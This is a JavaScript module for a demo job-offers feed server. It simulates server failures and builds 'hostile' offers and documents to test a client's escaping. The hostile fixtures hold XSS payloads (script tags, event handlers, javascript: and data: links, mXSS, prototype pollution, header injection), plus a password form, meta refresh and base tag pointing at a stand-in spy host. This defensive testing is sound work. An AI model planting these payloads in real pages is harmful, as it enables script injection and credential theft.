// Simulations of the demo feed: how a feed server can fail or lie, so that every state of the
// elements can be seen (and tested) on the demo page. Used by `demo/server/index.mjs`.
//
// A simulation is asked for with a query parameter on a FEED URL (anything under /feed/v1/):
//   /feed/v1/offers.json?simulate=slow            several may be combined: ?simulate=slow,hostile
//   /feed/v1/offers.json?simulate=slow&slow=8000  delay in ms (default 3000, at most 60 000)
//   /feed/v1/offers.json?simulate=timeout&hold=5000  how long the socket is held (default and max 60 000)
// Simulated answers are never cached by the browser (`Cache-Control: no-store`), so a reload
// asks again. The wire format of the feed is described in docs/feed.md.

/** Every simulation, with what it shows (`SIMULATION_NAMES` gives the order: "404" would sort first here). */
export const SIMULATIONS = Object.freeze({
  slow: 'answers after a delay (3 s, or `slow=<ms>`): the loading state',
  error: 'HTTP 500: the error state with its retry button',
  404: 'HTTP 404: the error state for a wrong feed URL',
  timeout: 'never answers; the socket is closed after 60 s (or `hold=<ms>`): the client gives up first',
  network: 'closes the connection without an answer: a network error',
  malformed: 'HTTP 200 with truncated, invalid JSON',
  'invalid-items': 'a valid feed in which some offers are broken: they are skipped and reported, the rest shows',
  hostile: 'offers and offer documents full of script tags, event handlers, javascript: links, 10 000-character strings',
  empty: 'a valid feed with zero offers: the empty state',
  stale: 'answers normally to a first request, fails (503) whenever the client sends If-None-Match / If-Modified-Since: reload to see the saved copy',
  flaky: 'every other request to this URL fails with HTTP 503',
  'doc-error': 'the feed is fine, every offer document answers HTTP 500: the error state of the offer detail',
  'doc-slow': 'the feed is fine, every offer document answers after a delay: the loading state of the offer detail',
});

export const SIMULATION_NAMES = Object.freeze([
  'slow', 'error', '404', 'timeout', 'network', 'malformed', 'invalid-items', 'hostile', 'empty', 'stale', 'flaky', 'doc-error', 'doc-slow',
]);

export const DEFAULT_SLOW_MS = 3000;
export const MAX_DELAY_MS = 60_000;

/** Simulations that decide the whole answer (the first one asked for wins). */
const ANSWERS = ['network', 'timeout', 'error', '404', 'malformed', 'stale', 'flaky'];

function boundedMs(value, fallback) {
  if (value === null || value === '') return fallback;
  const n = Number(value);
  return Number.isFinite(n) && n >= 0 ? Math.min(Math.floor(n), MAX_DELAY_MS) : fallback;
}

/**
 * Reads the simulation parameters of a request URL.
 * @param {URLSearchParams} params
 * @returns {{ modes: Set<string>, unknown: string[], slowMs: number, holdMs: number } | null} null when none is asked for
 */
export function parseSimulation(params) {
  const raw = params.getAll('simulate').flatMap((v) => v.split(','));
  const modes = new Set();
  const unknown = [];
  for (const value of raw) {
    const mode = value.trim().toLowerCase();
    if (mode === '') continue;
    if (Object.hasOwn(SIMULATIONS, mode)) modes.add(mode);
    else unknown.push(mode.slice(0, 40));
  }
  if (modes.size === 0 && unknown.length === 0) return null;
  return {
    modes,
    unknown,
    slowMs: boundedMs(params.get('slow'), DEFAULT_SLOW_MS),
    holdMs: boundedMs(params.get('hold'), MAX_DELAY_MS),
  };
}

/** The simulation that decides the answer, if any. */
export function answerMode(sim) {
  return ANSWERS.find((mode) => sim.modes.has(mode));
}

/** Cuts a JSON text in the middle of a value, so that it cannot be parsed. */
export function truncateJson(text) {
  const cut = Math.max(1, Math.min(text.length - 1, Math.floor(text.length * 0.6)));
  // Cut inside a string when possible ("…"title": "Dévelop"), the usual shape of a broken transfer.
  const quote = text.indexOf('"', cut);
  return text.slice(0, quote === -1 ? cut : quote + 4);
}

// ---------------------------------------------------------------------------
// Content transforms. Each takes the parsed JSON of a feed file and returns a new value.

const isRecord = (v) => typeof v === 'object' && v !== null && !Array.isArray(v);

/** True for a feed (a whole one or an organisation's slice): an object with an `offers` array. */
export function isFeed(json) {
  return isRecord(json) && Array.isArray(json.offers);
}

/** Adds `simulate=<mode>` to a relative document URL (absolute URLs, to another server, are left alone). */
export function withSimulation(url, mode) {
  if (typeof url !== 'string' || url === '' || /^[a-z][a-z0-9+.-]*:/i.test(url) || url.startsWith('//')) return url;
  const hash = url.indexOf('#');
  const base = hash === -1 ? url : url.slice(0, hash);
  const sep = base.includes('?') ? '&' : '?';
  return `${base}${sep}simulate=${encodeURIComponent(mode)}${hash === -1 ? '' : url.slice(hash)}`;
}

/** Points every offer's `document` at the same document with a simulation. */
export function simulateDocuments(feed, mode) {
  return {
    ...feed,
    offers: feed.offers.map((offer) =>
      isRecord(offer) && typeof offer.document === 'string' ? { ...offer, document: withSimulation(offer.document, mode) } : offer,
    ),
  };
}

/** A valid feed without any offer. */
export function emptyFeed(feed) {
  return { ...feed, offers: [] };
}

/**
 * The feed with a few offers broken in the ways a real export breaks. A tolerant
 * reader skips 9 items and drops fields of 2 others; every other offer still shows.
 */
export function invalidItemsFeed(feed) {
  const offers = feed.offers.map((o) => (isRecord(o) ? { ...o } : o));
  const first = offers.find(isRecord);
  const at = (i) => (isRecord(offers[i]) ? offers[i] : null);
  const edit = (i, fn) => {
    const o = at(i);
    if (o) fn(o);
  };
  edit(1, (o) => delete o.title); // skipped: no title
  edit(2, (o) => {
    o.url = 'javascript:alert("url")'; // dropped: not http(s)
    o.apply = { mode: 'external', url: 'javascript:alert("apply")' }; // skipped: no safe way to apply
  });
  edit(3, (o) => (o.datePosted = 20240101)); // skipped: a number, not an ISO date
  edit(4, (o) => {
    // kept, with these fields dropped
    o.employmentType = 42;
    o.remote = 'SOMETIMES';
    o.experienceMonths = '3 ans';
    o.baseSalary = { currency: 'USD', unitText: 'YEAR', minValue: 50000 };
    o.openToBeginners = 'oui';
  });
  edit(5, (o) => (o.title = '<script>alert("titre")</script> Titre avec une balise script (à afficher comme du texte)')); // kept: text, never markup
  edit(6, (o) => (o.hiringOrganization = 'organisation-qui-n-existe-pas')); // skipped: unknown organisation
  edit(7, (o) => delete o.id); // skipped: no id
  edit(8, (o) => {
    o.validThrough = '2025-02-30'; // dropped: no such day
    o.category = ['A', 'Z', 3]; // 'Z' and 3 dropped
  });
  offers.push(null, 'une offre qui est une chaîne', 42); // skipped: not objects
  if (first) offers.push({ ...first, title: `${first.title} (doublon)` }); // skipped: duplicate id
  return { ...feed, offers };
}

const LONG_WORD = 'Anticonstitutionnellement'.repeat(400); // 10 000 characters, no space
const LONG_TEXT = `${'Texte très long sans fin, répété pour éprouver la mise en page. '.repeat(157)}`.slice(0, 10_000);

/** Organisation and trade added by the hostile feed. */
const HOSTILE_ORGANISATION = {
  id: 'demo-hostile-org',
  name: '<img src=x onerror="alert(\'organisation\')"> Direction <b>piégée</b> & "guillemets"',
  acronym: '<script>alert(1)</script>',
  url: 'javascript:alert("organisation url")',
};

/**
 * The feed with hostile offers first (newest), then the real ones. Every hostile offer is
 * valid for the reader (it shows), only its texts and links are hostile. Their documents,
 * and those of the real offers, are hostile too (`?simulate=hostile`).
 */
export function hostileFeed(feed) {
  const base = feed.offers.find((o) => isRecord(o) && typeof o.id === 'string') ?? {};
  const organisations = Array.isArray(feed.organisations) ? [...feed.organisations, HOSTILE_ORGANISATION] : [HOSTILE_ORGANISATION];
  const families = Array.isArray(feed.families) ? feed.families : [];
  const trades = Array.isArray(feed.trades) ? [...feed.trades] : [];
  const family = families.find(isRecord)?.id;
  if (family !== undefined) {
    trades.push({
      id: 'demo-hostile-trade',
      name: '<script>alert("métier")</script> Métier <i>piégé</i>',
      family,
      description: `<img src=x onerror=alert('description')> ${LONG_TEXT}`,
      missions: ['<a href="javascript:alert(1)">mission</a>', LONG_WORD],
      skills: ['<svg onload=alert(1)>', '{{constructor.constructor("alert(1)")()}}'],
    });
  }
  const date = new Date().toISOString(); // now: newer than every date-only datePosted, so they list first
  const doc = (id) => `offers/${encodeURIComponent(id)}.json`; // simulateDocuments adds ?simulate=hostile
  const make = (id, fields) => {
    const offer = { ...base, id, datePosted: date, document: doc(id), ...fields };
    delete offer.dateModified;
    return offer;
  };
  const hostile = [
    make('demo-hostile-1', {
      title: '<script>alert("titre")</script>Développeur·se full-stack <img src=x onerror=alert(1)>',
      excerpt:
        '<b onmouseover="alert(2)">survolez-moi</b> <a href="javascript:alert(3)">cliquez-moi</a> <iframe src="https://example.org"></iframe>',
      url: 'javascript:alert(4)',
      hiringOrganization: HOSTILE_ORGANISATION.id,
    }),
    make('demo-hostile-2', {
      title: LONG_WORD,
      excerpt: LONG_TEXT,
      jobLocation: { addressLocality: '"><svg onload=alert(5)>', postalCode: '<b>75000</b>' },
      url: 'data:text/html,<script>alert(6)</script>',
    }),
    make('demo-hostile-3', {
      title: '{{constructor.constructor("alert(7)")()}} ${alert(8)} <style>*{display:none}</style> Cheffe de projet',
      excerpt: '</script><script>alert(9)</script> &lt;échappé&gt; &amp;amp; javascript:alert(10)',
      apply: { mode: 'email', email: 'recrutement@example.org', subject: 'Candidature\r\nBcc: espion@example.org <script>' },
    }),
    make('demo-hostile-4', {
      title: '\u202Egnp.exe\u202C Ingénieur·e données \u200B\u200B\u200B Z\u0351\u0352\u0353\u0354a\u0355\u0356\u0357l\u0358\u0359g\u035Ao',
      excerpt: '🙂'.repeat(400),
      occupationalCategory: family !== undefined ? 'demo-hostile-trade' : base.occupationalCategory,
      ...JSON.parse('{"__proto__": {"polluted": "oui"}, "constructor": {"prototype": {"polluted": "oui"}}}'),
    }),
  ];
  const offers = [...hostile, ...feed.offers];
  return simulateDocuments({ ...feed, organisations, trades, offers }, 'hostile');
}

/** Hostile HTML for every section of an offer document. */
export function hostileDocument(id) {
  return {
    version: 1,
    id,
    education: '<script>alert("education")</script> Bac+5',
    contractDuration: `${LONG_WORD.slice(0, 300)}`,
    sections: {
      mission:
        '<p>Un paragraphe normal, puis des pièges.</p><script>alert("script")</script><img src=x onerror="alert(\'img\')">' +
        '<p onclick="alert(\'onclick\')">Paragraphe avec onclick</p><a href="javascript:alert(\'lien\')">Lien javascript:</a> ' +
        '<a href="https://example.org/" target="_self" onclick="alert(1)">Lien https</a> <a href="mailto:rh@example.org">Lien mailto</a>' +
        '<iframe src="https://example.org"></iframe><object data="x.swf"></object><embed src="x.swf">',
      context:
        '<style>body{display:none !important}</style>' +
        '<div style="position:fixed;inset:0;background:red;z-index:2147483647">Recouvrement plein écran</div>' +
        '<svg><script>alert("svg")</script></svg><svg onload="alert(\'svg onload\')"></svg>' +
        '<math><mtext><table><mglyph><style><img src=x onerror=alert("mxss")></style></mglyph></table></mtext></math>' +
        '<noscript><p title="</noscript><img src=x onerror=alert(\'noscript\')>"></p></noscript>',
      team:
        '<form action="https://espion.example/vol"><label>Mot de passe <input name="password" type="password"></label><button>Envoyer</button></form>' +
        '<meta http-equiv="refresh" content="0;url=https://espion.example"><base href="https://espion.example/">' +
        '<link rel="stylesheet" href="https://espion.example/x.css">',
      tasks:
        '<ul><li>Une tâche ordinaire</li><li><img src="https://traceur.example/pixel.gif" alt="pixel espion"></li>' +
        '<li><a href="data:text/html,<script>alert(1)</script>">Lien data:</a></li><li><a href="vbscript:msgbox(1)">Lien vbscript:</a></li>' +
        '<li><a href=" jav&#x09;ascript:alert(\'obfusqué\')">Lien javascript: obfusqué</a></li></ul>',
      profile: `<p>${LONG_TEXT}</p><p>${LONG_WORD}</p>`,
      conditions:
        '<h1>Un titre h1 qui voudrait dominer la page</h1><table><tr><td>Tableau</td></tr></table>' +
        '<details open><summary>Détails</summary>contenu</details><p style="font-size:10em;color:red">Style en ligne</p>',
      perks: '<template><script>alert("template")</script></template><p>Avantages <!-- commentaire --> ]]&gt;</p>',
      process:
        '<textarea>zone de saisie</textarea><select><option>choix</option></select><video src=x onerror=alert(1)></video>' +
        '<p id="mn-offer-list" name="getElementById">Collision d’identifiants (DOM clobbering)</p>',
    },
  };
}

// ---------------------------------------------------------------------------
// Dates. The committed sample feed is generated for a fixed "now" (scripts/generate-feed.mjs --now) so
// that it is reproducible; served as is, it would age (deadlines pass, nothing is new). The demo server
// moves every date of the feed folder by the same whole number of days, so that `generatedAt` falls on
// today's date in Paris: the demo then shows, any day, what it showed on the reference day.
// Whole days, not the exact time: date-only fields stay exact dates, and the body changes once a day,
// so ETags and 304s keep working (an exact shift would change the body at every request).

export const DAY_MS = 86_400_000;

/** The date fields of an offer (docs/feed.md, Dates); the feed itself has `generatedAt`. */
export const OFFER_DATE_FIELDS = Object.freeze(['datePosted', 'dateModified', 'validThrough']);

const PARIS = new Intl.DateTimeFormat('en-US', { timeZone: 'Europe/Paris', timeZoneName: 'longOffset' });

/** UTC offset of Europe/Paris at an instant, in ms (3 600 000 in winter, 7 200 000 in summer). */
function parisOffsetMs(ms) {
  const name = PARIS.formatToParts(ms).find((p) => p.type === 'timeZoneName')?.value ?? 'GMT';
  const m = /([+-])(\d{2}):(\d{2})/.exec(name);
  return m ? (m[1] === '-' ? -1 : 1) * (Number(m[2]) * 60 + Number(m[3])) * 60_000 : 0;
}

/** The calendar day in Paris of an instant, as a day number (days since 1970-01-01). */
export function parisDay(ms) {
  return Math.floor((ms + parisOffsetMs(ms)) / DAY_MS);
}

/** Midnight in Paris at the start of a day number. DST switches happen at 02:00/03:00, never at midnight. */
function parisMidnight(day) {
  return day * DAY_MS - parisOffsetMs(day * DAY_MS - 3_600_000);
}

/**
 * How to move the dates of a feed generated at `generatedAt` so that it is generated today (in Paris)
 * at `now`: `days` to add, and `since`, the instant this shift began (midnight in Paris), which is
 * when the shifted copy changed. Null when `generatedAt` is not a date.
 * @returns {{ days: number, since: number } | null}
 */
export function dateShift(generatedAt, now) {
  const from = typeof generatedAt === 'string' ? Date.parse(generatedAt) : NaN;
  if (!Number.isFinite(from)) return null;
  const today = parisDay(now);
  return { days: today - parisDay(from), since: parisMidnight(today) };
}

const isoDay = (ms) => new Date(ms).toISOString().slice(0, 10);
const DATE_OR_DATE_TIME = /^(\d{4})-(\d{2})-(\d{2})(?:([Tt]\d{2}:\d{2}:\d{2}(?:\.\d+)?)([Zz]|[+-]\d{2}:\d{2}))?$/;
/** The offsets of Europe/Paris: a date-time written with one is taken as Paris wall-clock time. */
const PARIS_OFFSETS = new Set(['+01:00', '+02:00']);

/**
 * A date (YYYY-MM-DD) or RFC 3339 date-time moved by whole days, in the same form. The wall-clock
 * time and the offset are kept, except that a Paris offset follows daylight saving time:
 * "2026-12-20T23:59:59+01:00" + 150 days is "2027-05-19T23:59:59+02:00", still the end of a day in
 * Paris. Anything else (not a string, not a date, no such day) is returned as it is.
 */
export function shiftDate(value, days) {
  if (typeof value !== 'string' || days === 0) return value;
  const m = DATE_OR_DATE_TIME.exec(value);
  if (!m) return value;
  const [, year, month, day, time, zone] = m;
  const start = Date.UTC(Number(year), Number(month) - 1, Number(day));
  if (isoDay(start) !== `${year}-${month}-${day}`) return value;
  const date = isoDay(start + days * DAY_MS);
  if (time === undefined) return date;
  if (!PARIS_OFFSETS.has(zone)) return `${date}${time}${zone}`;
  const wall = Date.parse(`${date}T${time.slice(1, 9)}Z`);
  const offset = parisOffsetMs(wall - parisOffsetMs(wall - 3_600_000));
  return `${date}${time}+${String(offset / 3_600_000).padStart(2, '0')}:00`;
}

const MONTHS = ['janvier', 'février', 'mars', 'avril', 'mai', 'juin', 'juillet', 'août', 'septembre', 'octobre', 'novembre', 'décembre'];
const FRENCH_DATE = new RegExp(`(?<![\\p{L}\\d])(1er|[12]?\\d|3[01]) (${MONTHS.join('|')}) (\\d{4})(?!\\d)`, 'gu');

/**
 * French dates written in a text ("Prise de poste : 1er janvier 2027") moved by whole days. The
 * first of a month, as recruiters write a start date, stays the first of a month: the nearest one.
 */
export function shiftFrenchDates(text, days) {
  if (typeof text !== 'string' || days === 0) return text;
  return text.replace(FRENCH_DATE, (match, d, monthName, y) => {
    const first = d === '1er';
    const start = Date.UTC(Number(y), MONTHS.indexOf(monthName), first ? 1 : Number(d));
    if (new Date(start).getUTCDate() !== (first ? 1 : Number(d))) return match; // no such day
    let ms = start + days * DAY_MS;
    const at = new Date(ms);
    if (first && at.getUTCDate() !== 1) {
      const thisMonth = Date.UTC(at.getUTCFullYear(), at.getUTCMonth(), 1);
      const nextMonth = Date.UTC(at.getUTCFullYear(), at.getUTCMonth() + 1, 1);
      ms = ms - thisMonth <= nextMonth - ms ? thisMonth : nextMonth;
    }
    const out = new Date(ms);
    const date = out.getUTCDate();
    return `${date === 1 ? '1er' : date} ${MONTHS[out.getUTCMonth()]} ${out.getUTCFullYear()}`;
  });
}

/**
 * A feed file with its dates moved by whole days: a feed (or a slice) its `generatedAt` and its
 * offers' dates; an offer document the dates written in its sections (it has no date field).
 * Other values are returned as they are. Items that are not offers are left alone.
 */
export function shiftFeedDates(json, days) {
  if (days === 0 || !isRecord(json)) return json;
  if (isFeed(json)) {
    const shifted = { ...json };
    if ('generatedAt' in json) shifted.generatedAt = shiftDate(json.generatedAt, days);
    shifted.offers = json.offers.map((offer) => {
      if (!isRecord(offer)) return offer;
      const copy = { ...offer };
      for (const field of OFFER_DATE_FIELDS) if (field in copy) copy[field] = shiftDate(copy[field], days);
      return copy;
    });
    return shifted;
  }
  if (isRecord(json.sections)) {
    const sections = Object.fromEntries(Object.entries(json.sections).map(([key, html]) => [key, shiftFrenchDates(html, days)]));
    return { ...json, sections };
  }
  return json;
}
